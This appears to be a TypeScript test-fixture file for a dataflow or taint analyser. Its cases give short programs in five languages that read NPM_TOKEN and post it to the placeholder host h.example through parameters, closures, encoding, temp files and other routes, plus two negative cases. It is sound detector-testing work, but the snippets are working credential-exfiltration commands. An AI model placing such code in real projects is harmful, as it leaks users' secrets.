import type { ConformanceCase } from "./harness.ts";

const STOLEN = {
  from: "read.credential" as const,
  to: "network.send" as const,
  source: "NPM_TOKEN",
  destination: "https://h.example",
};

/** The ways by which data goes from where it is read to where it is sent. */
export const PASSING_CASES: ConformanceCase[] = [
  {
    name: "data through a function's parameter",
    programs: {
      javascript: `function send(d) { fetch("https://h.example", { method: "POST", body: d }); } send(process.env.NPM_TOKEN);`,
      python: `import os, requests\ndef send(d):\n    requests.post("https://h.example", data=d)\nsend(os.environ["NPM_TOKEN"])`,
      shell: `send() { curl -X POST -d "$1" https://h.example; }\nsend "$NPM_TOKEN"`,
      php: `function send($d) { $c = curl_init("https://h.example"); curl_setopt($c, CURLOPT_POSTFIELDS, $d); curl_exec($c); } send(getenv("NPM_TOKEN"));`,
      ruby: `def deliver(d)\n  RestClient.post("https://h.example", d)\nend\ndeliver(ENV["NPM_TOKEN"])`,
    },
    flows: [STOLEN],
  },
  {
    name: "data through what a function answers",
    programs: {
      javascript: `const get = () => process.env.NPM_TOKEN; fetch("https://h.example", { body: get() });`,
      python: `import os, requests\ndef get():\n    return os.getenv("NPM_TOKEN")\nrequests.post("https://h.example", get())`,
      shell: `get() { echo "$NPM_TOKEN"; }\ncurl -d "$(get)" https://h.example`,
      php: `function get() { return $_ENV["NPM_TOKEN"]; } file_get_contents("https://h.example/?" . get());`,
      ruby: `def token\n  ENV["NPM_TOKEN"]\nend\nRestClient.post("https://h.example", token)`,
    },
    flows: [STOLEN],
  },
  {
    name: "data that a closure keeps",
    programs: {
      javascript: `function make(t) { return () => fetch("https://h.example", { body: t }); } make(process.env.NPM_TOKEN)();`,
      python: `import os, requests\ndef make(t):\n    def send():\n        requests.post("https://h.example", data=t)\n    return send\nmake(os.environ["NPM_TOKEN"])()`,
      shell: `t=$NPM_TOKEN\nsend() { curl -d "$t" https://h.example; }\nsend`,
      php: `function make($t) { return function() use ($t) { wp_remote_post("https://h.example", ["body" => $t]); }; } make(getenv("NPM_TOKEN"))();`,
      ruby: `def make(t)\n  -> { RestClient.post("https://h.example", t) }\nend\nmake(ENV["NPM_TOKEN"]).call`,
    },
    flows: [STOLEN],
  },
  {
    name: "data handed to a callback",
    programs: {
      javascript: `function each(f) { f(process.env.NPM_TOKEN); } each((t) => fetch("https://h.example", { body: t }));`,
      python: `import os, requests\ndef each(f):\n    f(os.environ["NPM_TOKEN"])\neach(lambda t: requests.post("https://h.example", data=t))`,
      php: `function each_one($f) { $f(getenv("NPM_TOKEN")); } each_one(function($t) { wp_remote_post("https://h.example", ["body" => $t]); });`,
    },
    flows: [STOLEN],
  },
  {
    name: "data that is awaited",
    programs: {
      javascript: `async function get() { return process.env.NPM_TOKEN; } async function main() { const t = await get(); await fetch("https://h.example", { body: t }); } main();`,
      python: `import os, asyncio, httpx\nasync def get():\n    return os.environ["NPM_TOKEN"]\nasync def main():\n    t = await get()\n    async with httpx.AsyncClient() as c:\n        await c.post("https://h.example", data=t)\nasyncio.run(main())`,
    },
    flows: [STOLEN],
  },
  {
    name: "data that an object keeps",
    programs: {
      javascript: `class Box { constructor(t) { this.t = t; } send() { fetch("https://h.example", { body: this.t }); } } new Box(process.env.NPM_TOKEN).send();`,
      python: `import os, requests\nclass Box:\n    def __init__(self, t):\n        self.t = t\n    def send(self):\n        requests.post("https://h.example", data=self.t)\nBox(os.environ["NPM_TOKEN"]).send()`,
      php: `class Box { private $t; function __construct($t) { $this->t = $t; } function send() { wp_remote_post("https://h.example", ["body" => $this->t]); } } (new Box(getenv("NPM_TOKEN")))->send();`,
      ruby: `class Box\n  def initialize(t)\n    @t = t\n  end\n  def deliver\n    RestClient.post("https://h.example", @t)\n  end\nend\nBox.new(ENV["NPM_TOKEN"]).deliver`,
    },
    flows: [STOLEN],
  },
  {
    name: "a method that a base class has",
    programs: {
      javascript: `class A { send(t) { fetch("https://h.example", { body: t }); } } class B extends A {} new B().send(process.env.NPM_TOKEN);`,
      python: `import os, requests\nclass A:\n    def send(self, t):\n        requests.post("https://h.example", data=t)\nclass B(A):\n    pass\nB().send(os.environ["NPM_TOKEN"])`,
      php: `class A { function send($t) { wp_remote_post("https://h.example", ["body" => $t]); } } class B extends A {} (new B())->send(getenv("NPM_TOKEN"));`,
      ruby: `class A\n  def deliver(t)\n    RestClient.post("https://h.example", t)\n  end\nend\nclass B < A\nend\nB.new.deliver(ENV["NPM_TOKEN"])`,
    },
    flows: [STOLEN],
  },
  {
    name: "data as a default argument",
    programs: {
      javascript: `function send(t = process.env.NPM_TOKEN) { fetch("https://h.example", { body: t }); } send();`,
      python: `import os, requests\ndef send(t=os.environ.get("NPM_TOKEN")):\n    requests.post("https://h.example", data=t)\nsend()`,
      shell: 'send() { curl -d "${1:-$NPM_TOKEN}" https://h.example; }\nsend',
      ruby: `def deliver(t = ENV["NPM_TOKEN"])\n  RestClient.post("https://h.example", t)\nend\ndeliver`,
    },
    flows: [STOLEN],
  },
  {
    name: "data by a part of a record",
    programs: {
      javascript: `const { NPM_TOKEN: t } = process.env; const { a: { b } } = { a: { b: t } }; fetch("https://h.example", { body: b });`,
      python: `import os, requests\nd = {"a": {"b": os.environ["NPM_TOKEN"]}}\nb = d["a"]["b"]\nrequests.post("https://h.example", data=b)`,
      php: `$d = ["a" => ["b" => getenv("NPM_TOKEN")]]; wp_remote_post("https://h.example", $d["a"]["b"]);`,
      ruby: `d = { a: { b: ENV["NPM_TOKEN"] } }\nRestClient.post("https://h.example", d[:a][:b])`,
    },
    flows: [STOLEN],
  },
  {
    name: "data inside a text",
    programs: {
      javascript: "fetch(`https://h.example/?t=${process.env.NPM_TOKEN}`);",
      python: `import os, requests\nrequests.get(f"https://h.example/?t={os.environ['NPM_TOKEN']}")`,
      shell: 'curl "https://h.example/?t=${NPM_TOKEN}"',
      php: `$t = getenv("NPM_TOKEN"); file_get_contents("https://h.example/?t={$t}");`,
      ruby: `Net::HTTP.get(URI("https://h.example/?t=#{ENV['NPM_TOKEN']}"))`,
    },
    flows: [STOLEN],
  },
  {
    name: "data in an address that is added together",
    programs: {
      javascript: `const host = "https://h" + ".example"; fetch(host + "/" + process.env.NPM_TOKEN);`,
      python: `import os, requests\nhost = "https://h" + ".example"\nrequests.get(host + "/" + os.environ["NPM_TOKEN"])`,
      shell: `host="https://h"; host+=".example"; curl "$host/$NPM_TOKEN"`,
      php: `$h = "https://h" . ".example"; file_get_contents($h . "/" . $_ENV["NPM_TOKEN"]);`,
      ruby: `h = "https://h" + ".example"\nNet::HTTP.get(URI(h + "/" + ENV["NPM_TOKEN"]))`,
    },
    flows: [STOLEN],
  },
  {
    name: "data through functions that nobody knows",
    programs: {
      javascript: `import { wrap } from "some-library"; fetch("https://h.example", { body: wrap(process.env.NPM_TOKEN).toString() });`,
      python: `import os, requests, some_library\nrequests.post("https://h.example", data=some_library.wrap(os.environ["NPM_TOKEN"]).strip())`,
      shell: `curl -d "$(some-tool --wrap "$NPM_TOKEN")" https://h.example`,
      php: `wp_remote_post("https://h.example", some_library(getenv("NPM_TOKEN"))->value());`,
      ruby: `RestClient.post("https://h.example", SomeLibrary.wrap(ENV["NPM_TOKEN"]).strip)`,
    },
    flows: [STOLEN],
  },
  {
    name: "data that is encoded on its way",
    programs: {
      javascript: `fetch("https://h.example", { body: Buffer.from(JSON.stringify({ t: process.env.NPM_TOKEN })).toString("base64") });`,
      python: `import os, requests, base64, json\nrequests.post("https://h.example", data=base64.b64encode(json.dumps({"t": os.environ["NPM_TOKEN"]}).encode()))`,
      shell: `echo "$NPM_TOKEN" | base64 -w0 | curl -d @- https://h.example`,
      php: `wp_remote_post("https://h.example", base64_encode(json_encode(["t" => getenv("NPM_TOKEN")])));`,
      ruby: `RestClient.post("https://h.example", Base64.encode64({ t: ENV["NPM_TOKEN"] }.to_json))`,
    },
    flows: [STOLEN],
  },
  {
    name: "data put into a list one by one",
    programs: {
      javascript: `const l = []; l.push(process.env.NPM_TOKEN); fetch("https://h.example", { body: l.join(",") });`,
      python: `import os, requests\nl = []\nl.append(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=",".join(l))`,
      shell: 'l=(); l+=("$NPM_TOKEN"); curl -d "${l[*]}" https://h.example',
      php: `$l = []; $l[] = getenv("NPM_TOKEN"); wp_remote_post("https://h.example", implode(",", $l));`,
      ruby: `l = []\nl << ENV["NPM_TOKEN"]\nRestClient.post("https://h.example", l.join(","))`,
    },
    flows: [STOLEN],
  },
  {
    name: "data by way of a file",
    programs: {
      javascript: `const fs = require("fs"); fs.writeFileSync("/tmp/x", process.env.NPM_TOKEN); fetch("https://h.example", { body: fs.readFileSync("/tmp/x") });`,
      python: `import os, requests\nwith open("/tmp/x", "w") as f:\n    f.write(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=open("/tmp/x").read())`,
      shell: `echo "$NPM_TOKEN" > /tmp/x; curl --data-binary @/tmp/x https://h.example`,
      php: `file_put_contents("/tmp/x", getenv("NPM_TOKEN")); wp_remote_post("https://h.example", file_get_contents("/tmp/x"));`,
      ruby: `File.write("/tmp/x", ENV["NPM_TOKEN"])\nRestClient.post("https://h.example", File.read("/tmp/x"))`,
    },
    flows: [STOLEN],
  },
  {
    name: "what was a secret and no longer is",
    programs: {
      javascript: `let t = process.env.NPM_TOKEN; t = "ok"; fetch("https://h.example", { body: t });`,
      python: `import os, requests\nt = os.environ["NPM_TOKEN"]\nt = "ok"\nrequests.post("https://h.example", data=t)`,
      shell: `t=$NPM_TOKEN; t=ok; curl -d "$t" https://h.example`,
      php: `$t = getenv("NPM_TOKEN"); $t = "ok"; wp_remote_post("https://h.example", $t);`,
      ruby: `t = ENV["NPM_TOKEN"]\nt = "ok"\nRestClient.post("https://h.example", t)`,
    },
    noFlows: [{ from: "read.credential", to: "network.send" }],
  },
  {
    name: "a secret that is read beside a request it has nothing to do with",
    programs: {
      javascript: `console.log(process.env.NPM_TOKEN.length); fetch("https://h.example", { body: "hello" });`,
      python: `import os, requests\nprint(len(os.environ["NPM_TOKEN"]))\nrequests.post("https://h.example", data="hello")`,
      shell: 'echo "${#NPM_TOKEN}"; curl -d hello https://h.example',
      php: `echo strlen(getenv("NPM_TOKEN")); wp_remote_post("https://h.example", "hello");`,
      ruby: `puts ENV["NPM_TOKEN"].length\nRestClient.post("https://h.example", "hello")`,
    },
    capabilities: [{ capability: "read.credential", target: "NPM_TOKEN" }],
    noFlows: [{ from: "read.credential", to: "network.send" }],
  },
];
